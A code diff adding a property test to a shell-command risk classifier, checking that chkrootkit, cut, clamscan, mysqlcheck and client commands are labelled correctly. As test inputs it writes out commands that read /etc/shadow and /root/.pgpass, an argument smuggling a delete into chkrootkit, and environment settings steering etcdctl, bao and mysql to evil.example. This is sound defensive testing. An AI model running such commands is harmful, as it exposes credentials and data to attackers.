@@ -5474,6 +5474,36 @@ proptest! {
         read_only("nmap -sn 10.0.0.0/24")?;
     }
 
+    /// Review 89 (the tables of this stop): chkrootkit's `-e`, `-x`,
+    /// `-r`; Lynis's report truncated; clamscan's file list echoed;
+    /// nmcli's `-te -s`; cut's lists split on blanks and a last secret
+    /// field's escaped delimiters; mysqlcheck's repair by prefix and in
+    /// clusters; whole loss words not after an option; servers set for
+    /// clients that take them from the environment.
+    #[test]
+    fn review_eighty_nine_classes(
+        chk in select(vec!["-e '/x -o -delete'", "-x", "-q -r /mnt/x", "-r /mnt/x"]),
+        list in select(vec!["'3- 2'", "'1 2'", "2", "1-"]),
+        pgpass in select(vec!["1-4,6", "5", "4-", "1,6"]),
+        repair in select(vec!["--rep", "--repai", "--auto", "--use", "-ruroot", "-cr"]),
+        value in select(vec!["incus list -f compact", "gojq --compact-output . x.json", "ugrep -r trim /srv", "ack --type=perl compact"]),
+        steer in select(vec!["ETCDCTL_ENDPOINTS=https://evil.example:2379; etcdctl endpoint health", "BAO_ADDR=https://evil.example; bao status", "MYSQL_HOST=evil.example; mysql -e 'select 1'"]),
+    ) {
+        not_read_only(&format!("chkrootkit {chk}"))?;
+        not_read_only("lynis show version")?;
+        not_read_only("clamscan -f /etc/shadow")?;
+        not_read_only("nmcli -te -s connection show home")?;
+        not_read_only(&format!("cut -d: -f{list} /etc/shadow"))?;
+        not_read_only(&format!("cut -d: -f{pgpass} /root/.pgpass"))?;
+        destructive(&format!("mysqlcheck {repair} db"))?;
+        read_only("mysqlcheck -uroot -c db")?;
+        not_read_only(value)?;
+        prop_assert_ne!(classify(value, None).class, RiskClass::Destructive, "{}", value);
+        not_read_only(steer)?;
+        destructive("borg compact /srv/b")?;
+        read_only("cut -d: -f1,3 /etc/shadow")?;
+    }
+
     /// Review 84: a glob reaches a game's settings whatever its letters
     /// (bracket expressions, two letters, a copy's suffix); an RCON
     /// client whose options have values but no command reads its input;
